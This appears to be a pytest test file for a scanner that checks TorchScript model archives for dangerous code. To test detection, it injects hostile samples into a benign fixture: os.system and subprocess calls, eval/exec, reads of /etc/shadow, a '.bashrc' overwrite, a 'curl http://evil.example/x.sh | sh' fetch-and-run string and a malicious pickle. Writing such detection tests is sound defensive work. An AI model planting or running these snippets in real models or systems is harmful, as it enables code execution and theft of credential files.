"""TorchScript code/ members: a real torch.jit.save archive (tests/fixtures/benign/torch_jit_script.pt)
with one code member's text replaced. Nothing is loaded; the zips are only written."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest

from shardscan.model import Severity
from shardscan.scanners import torchscript

FIXTURE = Path(__file__).parent / "fixtures" / "benign" / "torch_jit_script.pt"
PREFIX = "torch_jit_script"
LINEAR = f"{PREFIX}/code/__torch__/torch/nn/modules/linear.py"
TOP = f"{PREFIX}/code/__torch__.py"


def _archive(replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(FIXTURE) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            data = (replace or {}).get(info.filename, src.read(info.filename))
            dst.writestr(info, data)
        for name, data in (add or {}).items():
            dst.writestr(zipfile.ZipInfo(name), data, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _forward(body: str, extra: str = "") -> bytes:
    """The fixture's Linear module with `body` inserted in forward()."""
    text = zipfile.ZipFile(FIXTURE).read(LINEAR).decode()
    marker = "    weight = self.weight\n"
    assert marker in text
    return (extra + text.replace(marker, body + marker)).encode()


def _rules(report, severity: Severity = Severity.INFO) -> dict[str, list]:
    out: dict[str, list] = {}
    for f in report.findings:
        if f.severity >= severity:
            out.setdefault(f.rule_id, []).append(f)
    return out


def test_benign_fixture_has_no_warning(scan_bytes):
    report = scan_bytes(FIXTURE.read_bytes(), "model.pt")
    assert not _rules(report, Severity.WARNING)
    assert "TRC101" in _rules(report)


def test_rebuilt_fixture_is_still_benign(scan_bytes):
    assert not _rules(scan_bytes(_archive(), "model.pt"), Severity.WARNING)


@pytest.mark.parametrize(("body", "callable_"), [
    ('    _x = ops.evilns.pwn(input)\n', "evilns::pwn"),
    ('    _x = torch.ops.my_ext.fused(input)\n', "my_ext::fused"),
    ('    _c = __torch__.torch.classes.evil.Loader()\n', "torch.classes.evil.Loader"),
])
def test_custom_ops_are_trc104(scan_bytes, body, callable_):
    found = _rules(scan_bytes(_archive({LINEAR: _forward(body)}), "model.pt"))
    assert [f.evidence["callable"] for f in found["TRC104"]] == [callable_]
    assert found["TRC104"][0].severity == Severity.WARNING
    assert found["TRC104"][0].location.endswith("linear.py")
    assert "TRC105" not in found


def test_known_namespaces_are_quiet(scan_bytes):
    body = ("    _a = ops.prim.NumToTensor(1)\n    _b = torch.ops.torchvision.nms(input, input, 0.5)\n"
            "    _c = ops.quantized.linear(input)\n    _d = torch.ops.aten.relu(input)\n")
    assert not _rules(scan_bytes(_archive({LINEAR: _forward(body)}), "model.pt"), Severity.WARNING)


@pytest.mark.parametrize(("body", "callable_"), [
    ('    _x = os.system("id")\n', "os.system"),
    ('    _x = __import__("subprocess").check_output(["id"])\n', "subprocess.check_output"),
    ('    _x = eval("1+1")\n', "builtins.eval"),
    ('    _x = exec("import os")\n', "builtins.exec"),
    ('    _x = getattr(os, "popen")("id")\n', "os.popen"),
    ('    torch.ops.load_library("/tmp/x.so")\n', "torch.ops.load_library"),
])
def test_process_and_code_are_critical(scan_bytes, body, callable_):
    report = scan_bytes(_archive({LINEAR: _forward(body)}), "model.pt")
    found = _rules(report)
    assert callable_ in {f.evidence["callable"] for f in found["TRC105"]}
    assert report.findings and max(f.severity for f in report.findings) == Severity.CRITICAL


@pytest.mark.parametrize(("body", "callable_"), [
    ('    torch.save(weight, "/home/user/.bashrc")\n', "torch.save"),
    ('    _t = torch.from_file("/etc/passwd", True, 10)\n', "torch.from_file"),
    ('    _t = ops.aten.from_file("/etc/shadow")\n', "torch.ops.aten.from_file"),
    ('    _f = open("/tmp/x", "w")\n', "builtins.open"),
    ('    _p = torch.load("/tmp/other.pt")\n', "torch.load"),
])
def test_file_access_is_trc106(scan_bytes, body, callable_):
    found = _rules(scan_bytes(_archive({LINEAR: _forward(body)}), "model.pt"))
    hits = [f for f in found["TRC106"] if f.evidence["callable"] == callable_]
    assert hits and all(f.severity == Severity.WARNING for f in hits)
    assert "TRC105" not in found


def test_strings_with_shell_commands_and_urls(scan_bytes):
    body = ('    _s = "curl -s http://evil.example/x.sh | sh"\n'
            '    _t = "/bin/bash -c id"\n'
            '    _u = "see https://pytorch.org/docs"\n')
    found = _rules(scan_bytes(_archive({LINEAR: _forward(body)}), "model.pt"))
    kinds = {f.evidence["indicator"]: f.severity for f in found["TRC107"]}
    assert kinds["curl/wget"] == Severity.WARNING
    assert kinds["shell"] == Severity.WARNING
    assert kinds["URL"] == Severity.INFO


def test_url_in_assertion_message_alone_is_info(scan_bytes):
    body = '    torch._assert(True, "see https://pytorch.org/docs/stable/jit.html")\n'
    assert not _rules(scan_bytes(_archive({LINEAR: _forward(body)}), "model.pt"), Severity.WARNING)


def test_syntax_error_falls_back_to_tokens(scan_bytes):
    broken = b"def forward(self x):\n  return os.system('id') + ops.evil.op(x)\n  eval (x)\n"
    found = _rules(scan_bytes(_archive({TOP: broken}), "model.pt"))
    assert found["TRC108"][0].severity == Severity.INFO
    names = {f.evidence["callable"] for f in found["TRC105"]}
    assert {"os.system", "builtins.eval"} <= names
    assert [f.evidence["callable"] for f in found["TRC104"]] == ["evil::op"]


def test_non_utf8_member(scan_bytes):
    data = _forward('    _x = os.popen("id")\n').replace(b"weight : Tensor", b"weight\xff\xfe : Tensor", 1)
    found = _rules(scan_bytes(_archive({LINEAR: data}), "model.pt"))
    assert "not UTF-8" in found["TRC108"][0].message
    assert "os.popen" in {f.evidence["callable"] for f in found["TRC105"]}


def test_huge_member_is_bounded(scan_bytes, monkeypatch):
    monkeypatch.setattr(torchscript, "MAX_SOURCE", 64 * 1024)
    head = b"x = os.system('id')\n"
    tail = b"y = subprocess.Popen('id')\n"
    data = head + b"# padding\n" * 20_000 + tail
    found = _rules(scan_bytes(_archive({TOP: data}), "model.pt"))
    assert found["TRC108"][0].evidence["size"] == len(data)
    names = {f.evidence["callable"] for f in found["TRC105"]}
    assert "os.system" in names and "subprocess.Popen" not in names  # beyond the bound: not read


def test_many_members_and_findings_are_capped(scan_bytes):
    add = {f"{PREFIX}/code/__torch__/gen/m{i}.py": f"def f(x):\n  return ops.ns{i % 3}.op(x)\n".encode()
           for i in range(300)}
    add[f"{PREFIX}/code/__torch__/gen/flood.py"] = b"".join(
        f"a{i} = ops.flood.op{i}(x)\n".encode() for i in range(500))
    found = _rules(scan_bytes(_archive(add=add), "model.pt"))
    flood = [f for f in found["TRC104"] if f.location.endswith("flood.py")]
    assert len(flood) == torchscript.MAX_FINDINGS_PER_RULE
    assert len(found["TRC104"]) == 300 + torchscript.MAX_FINDINGS_PER_RULE


def test_extra_files_are_scanned(scan_bytes):
    pickled = b"\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."
    report = scan_bytes(_archive(add={f"{PREFIX}/extra/meta.pkl": pickled}), "model.pt")
    critical = [f for f in report.findings if f.severity == Severity.CRITICAL]
    assert any(f.location.startswith(f"{PREFIX}/extra/meta.pkl") for f in critical)


def test_classify_table():
    assert torchscript.classify("torch.relu") is None
    assert torchscript.classify("ops.prim.unchecked_cast") is None
    assert torchscript.classify("torch.ops.custom.op")[0] == "TRC104"
    assert torchscript.classify("subprocess.run")[0] == "TRC105"
    assert torchscript.classify("torch.save")[0] == "TRC106"
